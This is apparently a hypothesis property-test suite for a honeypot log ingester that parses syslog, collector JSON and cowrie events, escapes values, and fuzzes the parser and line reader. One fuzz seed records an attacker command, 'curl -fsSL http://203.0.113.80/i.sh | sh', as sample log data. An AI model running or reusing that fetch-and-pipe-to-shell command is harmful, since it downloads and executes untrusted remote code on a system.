"""Ingest properties: SD escaping round-trips, CMD splitting, addresses, no crashes, reader."""

from __future__ import annotations

import io
import ipaddress
import json

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from node.event import Event, LineRejected
from node.ingest import parse_line
from node.ingest.addresses import ATTACKER_IP_FIELDS, canonical_ip
from node.ingest.reader import iter_lines

_FAST = settings(max_examples=200, deadline=None)
_FUZZ = settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])

# --- RFC 5424 structured data ---------------------------------------------------------------

# SD-NAME: printable US-ASCII except '=', SP, ']' and '"' (RFC 5424 §6.3.3), 1..32 chars.
_SD_NAME_CHARS = "".join(chr(c) for c in range(33, 127) if chr(c) not in '="]')
_sd_names = st.text(alphabet=_SD_NAME_CHARS, min_size=1, max_size=32).filter(
    lambda name: name not in ATTACKER_IP_FIELDS and name != "msg")
# Any text a line can carry: no NUL (rejected outright), no surrogates (not encodable).
_values = st.text(alphabet=st.characters(exclude_characters="\x00", codec="utf-8"))
_tricky_values = st.one_of(
    _values,
    st.text(alphabet='\\"]x [=é✓', max_size=20),
    st.sampled_from(["\\", '"', "]", "\\\\", '\\"', "\\]", 'a\\', 'end"', "]]", '\\"]']),
)


def _escape(value: str) -> str:
    """RFC 5424 §6.3.3 PARAM-VALUE escaping."""
    return value.replace("\\", "\\\\").replace('"', '\\"').replace("]", "\\]")


def _sd_element(sd_id: str, params: dict[str, str]) -> str:
    return "[" + sd_id + "".join(f' {k}="{_escape(v)}"' for k, v in params.items()) + "]"


@_FAST
@given(st.dictionaries(_sd_names, _tricky_values, max_size=6))
def test_structured_data_values_round_trip_through_rfc5424_escaping(
    params: dict[str, str],
) -> None:
    line = f"<134>1 2026-03-02T08:14:05.5+00:00 h svc - ev {_sd_element('relay@55555', params)}"
    event = parse_line(line.encode())
    assert event.fields == params
    assert event.kind == "ev"


@_FAST
@given(st.dictionaries(_sd_names, _tricky_values, max_size=4),
       st.dictionaries(_sd_names, _tricky_values, max_size=4),
       st.text(alphabet=st.characters(exclude_characters="\x00\ufeff", codec="utf-8"),
               max_size=30).map(str.strip).filter(lambda m: not m.startswith("CMD ")))
def test_decnet_params_win_over_other_elements_and_message_is_kept(
    daemon: dict[str, str], relay: dict[str, str], msg: str,
) -> None:
    sd = _sd_element("timeQuality", daemon) + _sd_element("relay@55555", relay)
    line = f"<134>1 2026-03-02T08:14:05Z h svc - ev {sd}" + (f" {msg}" if msg else "")
    event = parse_line(line.encode())
    expected = {**daemon, **relay}
    if msg:
        expected.setdefault("msg", msg)
    assert event.fields == expected


@_FAST
@given(st.dictionaries(_sd_names, _tricky_values, max_size=4),
       st.integers(0, 999_999), st.sampled_from(["+00:00", "Z", "+05:30", "-08:00"]),
       st.sampled_from(["", "\n", "\r\n"]))
def test_same_event_via_syslog_and_collector_has_one_key(
    params: dict[str, str], micros: int, zone: str, line_break: str,
) -> None:
    line = (f"<134>1 2026-03-02T08:14:05.{micros:06d}{zone} mail-01 smtp - ev "
            f"{_sd_element('relay@55555', params)}")
    via_syslog = parse_line(line.encode())
    collector = {"timestamp": "2026-03-02 08:14:05", "decky": "mail-01", "service": "smtp",
                 "event_type": "ev", "attacker_ip": "Unknown", "fields": params,
                 "raw_line": line + line_break}
    via_collector = parse_line(json.dumps(collector).encode())
    assert via_collector.key == via_syslog.key
    assert via_collector.time_us == via_syslog.time_us
    assert via_collector.fields == via_syslog.fields


# --- shell CMD lines ------------------------------------------------------------------------

_tokens = st.text(alphabet=st.characters(codec="ascii", exclude_characters=" \t\n\r\x0b\x0c\x00"),
                  min_size=1, max_size=12)
_line_text = st.text(alphabet=st.characters(exclude_characters="\x00\n\r",
                                            codec="utf-8"))
_commands = st.one_of(
    _line_text,
    st.lists(st.sampled_from(["cmd=", " cmd=", '"', "'", " ", "  ", "src=1.2.3.4", "pwd=/",
                              "\\", "]", "[x=\"y\"]", "ls", "|", ";", "é"]),
             max_size=12).map("".join),
)


@_FAST
@given(st.integers(0, 65535), _tokens, st.ip_addresses(), _tokens, _commands, st.booleans())
def test_shell_cmd_keeps_the_rest_of_the_line_verbatim(
    uid: int, user: str, ip: ipaddress.IPv4Address | ipaddress.IPv6Address, pwd: str,
    command: str, double: bool,
) -> None:
    src = f"[{ip}]:2222" if ip.version == 6 else f"{ip}:2222"
    shell = f"CMD uid={uid} user={user} src={src} pwd={pwd} cmd={command}"
    if double:
        line = ("<14>1 2026-03-02T09:10:01.2+00:00 runtime 1 - - -  "
                f"2026-03-02T09:10:01.19+00:00 web-02 bash - command - {shell}")
    else:
        line = f"<14>1 2026-03-02T09:10:00.1+00:00 web-02 bash - - -  {shell}"
    event = parse_line(line.encode())
    assert event.kind == "command"
    assert (event.sensor, event.service) == ("web-02", "bash")
    assert event.fields["cmd"] == command
    assert event.fields["uid"] == str(uid)
    assert event.fields["src"] == src
    expected_ip = ip.ipv4_mapped if ip.version == 6 and ip.ipv4_mapped else ip
    assert event.src_ip == str(expected_ip)


# --- addresses ------------------------------------------------------------------------------


def _forms(addr: ipaddress.IPv4Address | ipaddress.IPv6Address, port: int) -> list[str]:
    if addr.version == 4:
        return [str(addr), f"{addr}:{port}", f" {addr} ", f"::ffff:{addr}",
                f"[::ffff:{addr}]:{port}"]
    return [str(addr), addr.exploded, addr.exploded.upper(), f"[{addr}]", f"[{addr}]:{port}",
            f"[{addr.exploded}]:{port}"]


@_FAST
@given(st.ip_addresses(), st.integers(0, 65535))
def test_canonical_ip_strips_ports_and_is_idempotent(
    addr: ipaddress.IPv4Address | ipaddress.IPv6Address, port: int,
) -> None:
    mapped = addr.ipv4_mapped if addr.version == 6 else None
    expected = str(mapped if mapped is not None else addr)
    for form in _forms(addr, port):
        canonical = canonical_ip(form)
        assert canonical == expected
        assert canonical_ip(canonical) == canonical


@_FAST
@given(st.one_of(st.text(max_size=50),
                 st.text(alphabet="0123456789abcdefABCDEF:.[]% ", max_size=45)))
def test_canonical_ip_of_any_text_is_rejected_or_a_fixed_point(text: str) -> None:
    try:
        canonical = canonical_ip(text)
    except LineRejected as exc:
        assert exc.reason == "invalid_ip"
        return
    assert canonical_ip(canonical) == canonical
    ipaddress.ip_address(canonical.split("%")[0])


# --- crash-free parsing ---------------------------------------------------------------------

_VALID_LINES: list[bytes] = [
    b'<134>1 2026-03-02T08:14:05.120334+00:00 mail-01 smtp - rcpt_to '
    b'[relay@55555 src="198.51.100.23" value="<jane@victim-co.com>"]',
    b'<134>1 2026-03-02T09:05:04+00:00 decnet-prober prober - ipv6_link_local_leak '
    b'[relay@55555 target_ip="[2001:db8::9]:443" ipv6_addr="fe80::211:22ff:fe33:4455"] m\\"sg',
    b"<14>1 2026-03-02T09:10:00.1+00:00 web-02 bash - - -  CMD uid=0 user=root "
    b"src=192.0.2.44 pwd=/root cmd=cat /etc/os-release",
    b"<14>1 2026-03-02T09:10:01.2+00:00 web-02 1 - - -  2026-03-02T09:10:01.19+00:00 web-02 bash "
    b'- command [timeQuality tzKnown="1" isSynced="1"] CMD uid=0 user=root src=192.0.2.44 '
    b"pwd=/tmp cmd=curl -fsSL http://203.0.113.80/i.sh | sh",
    json.dumps({
        "timestamp": "2026-03-02 08:14:05", "decky": "mail-01", "service": "smtp",
        "event_type": "rcpt_to", "attacker_ip": "Unknown",
        "fields": {"src": "198.51.100.23:4411", "n": 5, "b": True}, "msg": "",
        "raw_line": "<134>1 2026-03-02T08:14:05.120334+00:00 mail-01 smtp - rcpt_to -",
    }).encode(),
    b'{"eventid": "cowrie.session.connect", "src_ip": "192.0.2.80", "src_port": 40112, '
    b'"dst_ip": "10.0.0.4", "dst_port": 22, "session": "c0ffee12ab34", "protocol": "ssh", '
    b'"sensor": "hp-east", "timestamp": "2026-03-02T10:00:00.000001Z", "message": ["a", "b"]}',
    b'{"eventid": "cowrie.session.closed", "duration": 6.4, "session": "c0ffee12ab34", '
    b'"src_ip": "::ffff:192.0.2.80", "sensor": "hp-east", "timestamp": "2026-03-02T10:00:06.4Z"}',
    b'{"sid": "5f0c", "t": 1.204113, "ch": "i", "d": "w"}',
]


def _check_event(event: Event) -> None:
    assert isinstance(event.key, bytes) and len(event.key) == 16
    assert isinstance(event.time_us, int)
    assert all(isinstance(k, str) and isinstance(v, str) for k, v in event.fields.items())
    assert event.src_ip is None or canonical_ip(event.src_ip) == event.src_ip


def _parse_or_reject(raw: bytes) -> None:
    try:
        event = parse_line(raw)
    except LineRejected as exc:
        assert exc.reason and exc.reason.replace("_", "").isalnum()
        return
    _check_event(event)


def test_every_valid_fuzz_seed_parses() -> None:
    for raw in _VALID_LINES:
        _check_event(parse_line(raw))


@_FUZZ
@given(st.binary(max_size=300))
def test_parse_line_only_ever_raises_line_rejected_on_arbitrary_bytes(raw: bytes) -> None:
    _parse_or_reject(raw)


@_FUZZ
@given(st.sampled_from([b"<", b"{", b"<134>1 ", b'{"eventid": "cowrie.']), st.binary(max_size=200))
def test_parse_line_only_ever_raises_line_rejected_on_format_prefixed_noise(
    prefix: bytes, rest: bytes,
) -> None:
    _parse_or_reject(prefix + rest)


_edits = st.lists(
    st.tuples(st.sampled_from(["replace", "insert", "delete", "truncate", "duplicate"]),
              st.floats(0, 1, exclude_max=True),
              st.sampled_from([b'"', b"\\", b"]", b"[", b" ", b"-", b":", b"{", b"}", b"=",
                               b"\xff", b"\xc3", b"0", b"9", b"Z", b"\r", b"\n", b"\xe2\x80\xa8",
                               b"null", b"[]", b"1e999", b"\\u0000"])),
    min_size=1, max_size=6)


@_FUZZ
@given(st.sampled_from(_VALID_LINES), _edits)
def test_parse_line_only_ever_raises_line_rejected_on_mutated_valid_lines(
    seed: bytes, edits: list[tuple[str, float, bytes]],
) -> None:
    raw = bytearray(seed)
    for op, where, piece in edits:
        at = int(where * len(raw)) if raw else 0
        if op == "replace":
            raw[at:at + len(piece)] = piece
        elif op == "insert":
            raw[at:at] = piece
        elif op == "delete":
            del raw[at:at + 1 + len(piece)]
        elif op == "truncate":
            del raw[at:]
        else:
            raw[at:at] = raw[at:at + 8]
    _parse_or_reject(bytes(raw))


@_FAST
@given(st.dictionaries(st.text(max_size=8), st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner,
                                                                max_size=3),
    max_leaves=8), max_size=8),
    st.sampled_from([{}, {"eventid": "cowrie.login.failed"}, {"event_type": "x"},
                     {"decky": "d", "service": "s", "event_type": "e",
                      "timestamp": "2026-03-02 08:14:05"},
                     {"eventid": "cowrie.x", "src_ip": "192.0.2.1",
                      "timestamp": "2026-03-02T10:00:00Z"},
                     {"sid": "s", "t": 1.0, "ch": "i", "d": "x"}]))
def test_parse_line_only_ever_raises_line_rejected_on_json_of_any_shape(
    extra: dict[str, object], base: dict[str, object],
) -> None:
    _parse_or_reject(json.dumps({**base, **extra}).encode())
    _parse_or_reject(json.dumps({**extra, **base}).encode())


# --- reader ---------------------------------------------------------------------------------

_MAX = 16
_good_lines = st.binary(max_size=_MAX).filter(lambda b: b"\n" not in b and b"\r" not in b)
# Content with CR is left out: a stream with CRs and no LF is a CR-only file, split at
# CRs (tested below), and which CRs belong to a CRLF line break is ambiguous anyway.
_long_lines = st.binary(min_size=_MAX + 1, max_size=400).map(
    lambda b: b.replace(b"\n", b"x").replace(b"\r", b"x") + b"x")


@_FAST
@given(st.lists(st.tuples(st.one_of(_good_lines, _long_lines), st.sampled_from([b"\n", b"\r\n"])),
                max_size=20),
       st.booleans(), st.integers(1, 64))
def test_reader_never_loses_a_good_line_next_to_an_overlong_one(
    lines: list[tuple[bytes, bytes]], last_unterminated: bool, buffer_size: int,
) -> None:
    data = b"".join(text + end for text, end in lines)
    if last_unterminated and lines:
        data = data[: -len(lines[-1][1])]
    stream = io.BufferedReader(io.BytesIO(data), buffer_size=buffer_size)
    read = list(iter_lines(stream, _MAX))
    if last_unterminated and lines and not lines[-1][0]:
        lines = lines[:-1]  # an empty unterminated last line is no line at all
    expected = [text if len(text) <= _MAX else None for text, _ in lines]
    assert [line.raw for line in read] == expected
    assert [line.number for line in read] == list(range(1, len(lines) + 1))
    if read:
        assert read[-1].end_pos == len(data)
    ends = [line.end_pos for line in read]
    assert ends == sorted(ends)


@_FAST
@given(st.lists(_good_lines.filter(bool), min_size=3, max_size=20), st.integers(1, 64))
def test_a_carriage_return_only_stream_splits_into_exactly_its_lines(
        lines: list[bytes], buffer_size: int) -> None:
    data = b"\r".join(lines)
    read = list(iter_lines(io.BufferedReader(io.BytesIO(data), buffer_size=buffer_size), _MAX))
    assert [line.raw for line in read] == lines
    assert read[-1].end_pos == len(data)
